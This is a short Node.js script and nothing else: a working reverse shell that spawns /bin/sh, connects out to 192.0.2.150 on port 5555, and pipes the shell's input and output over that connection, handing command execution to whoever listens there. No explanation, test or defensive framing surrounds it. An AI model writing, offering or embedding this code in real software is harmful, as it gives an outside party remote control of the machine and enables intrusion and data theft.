const net = require('net');
const { spawn } = require('child_process');
const sh = spawn('/bin/sh', []);
const client = net.connect(5555, '192.0.2.150', () => {
  client.pipe(sh.stdin);
  sh.stdout.pipe(client);
  sh.stderr.pipe(client);
});
